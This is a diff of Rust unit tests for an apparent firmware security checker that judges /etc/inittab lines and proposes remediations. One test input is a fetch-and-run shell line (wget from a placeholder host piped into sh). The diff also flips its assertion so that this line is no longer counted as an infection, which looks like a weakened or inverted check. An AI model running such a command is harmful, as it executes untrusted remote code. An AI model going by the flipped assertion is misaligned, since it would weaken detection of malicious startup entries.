@@ -221,14 +221,13 @@ fn a_line_on_the_firmwares_own_medium_cannot_be_changed_and_that_is_said() {
     let strict = policy(vec![]);
     let report = judged(&found("::respawn:telnetd", true), &strict);
     assert_eq!(&*report.findings[0].what, "/etc/inittab line 1 starts telnet: ::respawn:telnetd");
-    assert!(!report.findings[0].infection);
     let remediation =
         Remediation::StopStarting { file: "/etc/inittab".into(), line: 1, says: "::respawn:telnetd".into() };
     assert_eq!(report.remediations(), [&remediation]);
     let report = judged(&found("::respawn:telnetd", false), &strict);
     assert!(matches!(report.judgement(Measure::Respawn), Judgement::CannotEnforce(_)));
     let report = judged(&found("::once:wget http://192.0.2.1/x -O- | sh", true), &strict);
-    assert!(report.findings[0].infection);
+    assert!(!report.findings[0].is_infection());
     let allowed = policy(vec![Service {
         program: "telnetd".into(),
         transport: Transport::Tcp,
@@ -249,10 +248,13 @@ fn only_the_program_that_reads_a_file_is_told_of_its_change() {
             there: true,
             replaced: false,
             medium: crate::wall::process_snapshot::Medium::Firmware,
+            elsewhere: false,
         },
         name: name.into(),
         first_word: name.into(),
         second_word: String::new(),
+        stopped: false,
+        namespaced: false,
         holds_watchdog: false,
         writes_flash: false,
     };
